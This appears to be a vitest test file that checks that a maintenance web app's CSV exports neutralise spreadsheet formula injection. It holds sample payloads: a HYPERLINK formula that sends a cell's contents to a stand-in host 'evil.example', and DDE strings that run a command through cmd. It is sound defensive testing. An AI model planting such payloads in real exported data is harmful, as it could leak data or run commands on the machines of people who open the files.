// CSV formula injection (OWASP CSV Injection): text people type that starts with = + - @ tab or
// CR leaves every CSV export as text (a leading apostrophe), so a spreadsheet never runs it;
// numbers, negative ones included, stay numbers. Every GET *.csv route in the route table is checked.
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FORMULA_START, csvCell, neutraliseFormula, restoreFormulaText, toCsv } from '../../src/shared/csv-safe';
import { startTestApp, type TestApp } from '../helpers/test-app';

let t: TestApp;
type Agent = Awaited<ReturnType<TestApp['signIn']>>['agent'];
let admin: Agent;

// Payloads in the style of the OWASP CSV Injection page: formulas, DDE commands, a link out.
const VECTORS = {
  eq: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the manual")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+9)*cmd|' /C calc'!A0",
  eqSimple: '=1+1',
};
const PLAIN_NUMBER = /^-?\d{1,3}(,\d{3})*(\.\d+)?$|^-?\d+(\.\d+)?$/;
const daysAgo = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().slice(0, 10);

async function getText(agent: Agent, path: string): Promise<string> {
  const res = await agent
    .get(path)
    .buffer(true)
    .parse((r, cb) => {
      let data = '';
      r.setEncoding('utf8');
      r.on('data', (c: string) => (data += c));
      r.on('end', () => cb(null, data));
    });
  expect(res.status, `${path}: ${String(res.body).slice(0, 200)}`).toBe(200);
  expect(res.headers['content-type']).toMatch(/text\/csv/);
  return res.body as string;
}

beforeAll(async () => {
  t = await startTestApp();
  admin = (await t.signIn(['admin', 'manager', 'technician'])).agent;
});
afterAll(async () => t?.close());

describe('the shared CSV helper', () => {
  it('when a cell starts with = + - @ tab or CR, then it gets an apostrophe; plain numbers and other text are unchanged; quotes and commas are quoted', () => {
    for (const v of ['=1+1', '+1+1', '-1+1', '@A1', '\t=1', '\r=1', "-2+3+cmd|' /C calc'!A0"]) expect(neutraliseFormula(v), JSON.stringify(v)).toBe(`'${v}`);
    for (const v of ['-3', '-12.5', '1,234.5', '-1,234', 'Seat worn', 'a=b', ' =x']) expect(neutraliseFormula(v), v).toBe(v);
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(true)).toBe('yes');
    expect(csvCell(null)).toBe('');
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(restoreFormulaText(neutraliseFormula('=A1'))).toBe('=A1');
    expect(restoreFormulaText("'plain")).toBe("'plain");
    expect(toCsv(['a', 'b'], [['=1', -1]], { bom: true })).toBe("\uFEFFa,b\r\n'=1,-1\r\n");
  });
});

describe('every CSV export', () => {
  it('when every text field of the asset register holds a formula, then no cell of any CSV export starts a formula and each payload is there as text', async () => {
    const site = (await admin.post('/api/sites').send({ name: VECTORS.eq, address: VECTORS.plus, contact: VECTORS.at }).expect(201)).body.site;
    const line = (await admin.post('/api/lines').send({ siteId: site.id, name: VECTORS.minus, area: VECTORS.eqSimple, contact: VECTORS.plus }).expect(201)).body.line;
    const field = (await admin.post('/api/applicators/fields').send({ name: VECTORS.at, type: 'text' }).expect(201)).body.field;
    const app = (
      await admin
        .post('/api/applicators')
        .send({
          lineId: line.id,
          tag: VECTORS.plus,
          actuation: 'electric',
          coilDrive: 'high-voltage',
          needleMaterial: VECTORS.eq,
          seatMaterial: VECTORS.minus,
          nozzle: VECTORS.at,
          fluidFamily: 'hot-melt',
          fluidName: VECTORS.eqSimple,
          installedOn: daysAgo(400),
          status: 'running',
          cyclesPerMinute: 200,
          hoursPerDay: 20,
          daysPerWeek: 7,
          seatIntervalCycles: 1_000_000,
          custom: { [field.id]: VECTORS.eq },
        })
        .expect(201)
    ).body.applicator;
    await admin
      .post(`/api/applicators/${app.id}/readings`)
      .send({ readOn: daysAgo(30), count: 100_000, note: VECTORS.minus })
      .expect(201);
    await admin
      .post(`/api/applicators/${app.id}/readings`)
      .send({ readOn: daysAgo(1), count: 5_000_000, note: VECTORS.at })
      .expect(201);
    const ev = await admin.post(`/api/applicators/${app.id}/service-events`).send({
      performedOn: daysAgo(20),
      actions: ['seat-replaced', 'other'],
      otherAction: VECTORS.eq,
      parts: [{ name: VECTORS.plus, partNumber: VECTORS.minus, quantity: 1 }],
      performedBy: VECTORS.at,
      notes: VECTORS.eqSimple,
    });
    expect(ev.status, JSON.stringify(ev.body)).toBe(201);

    const csvRoutes = t.app.locals.routeTable.filter((r) => r.method === 'get' && r.path.endsWith('.csv')).map((r) => r.path);
    // The exports known today; a new one joins this list (and this check) automatically.
    expect(csvRoutes).toEqual(
      expect.arrayContaining(['/api/sites/export.csv', '/api/lines/export.csv', '/api/applicators/export.csv', '/api/applicators/readings/export.csv', '/api/insights/forecast.csv']),
    );
    const seen = new Set<string>();
    for (const path of csvRoutes) {
      const text = await getText(admin, path.includes('forecast') ? `${path}?days=90` : path);
      const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
      for (const row of rows) {
        for (const cell of row) {
          if (FORMULA_START.test(cell)) expect(cell, `${path}: a cell starts a formula`).toMatch(PLAIN_NUMBER);
          const payload = Object.values(VECTORS).find((v) => cell === `'${v}` || cell.includes(v));
          if (payload) {
            if (cell.startsWith("'")) seen.add(`${path} ${payload}`);
          }
        }
      }
    }
    // Each export carries at least one payload, as text with its apostrophe.
    for (const path of csvRoutes) {
      if (path.includes('fields')) continue; // the field list holds only the field's name
      expect(
        [...seen].some((s) => s.startsWith(`${path} `)),
        `${path} carried a payload as text`,
      ).toBe(true);
    }
    expect(seen.size).toBeGreaterThanOrEqual(8);

    // Numbers stay numbers (no apostrophe in front of a figure).
    const forecast = Papa.parse<string[]>(await getText(admin, '/api/insights/forecast.csv?days=90'), { skipEmptyLines: true }).data;
    const ours = forecast.find((r) => r[0] === `'${VECTORS.plus}`);
    expect(ours, 'the overdue applicator is in the forecast').toBeDefined();
    expect(ours![forecast[0].indexOf('days_remaining')]).toMatch(/^-?\d+$/);
    expect(ours![forecast[0].indexOf('interval_cycles')]).toBe('1000000');
  });
});
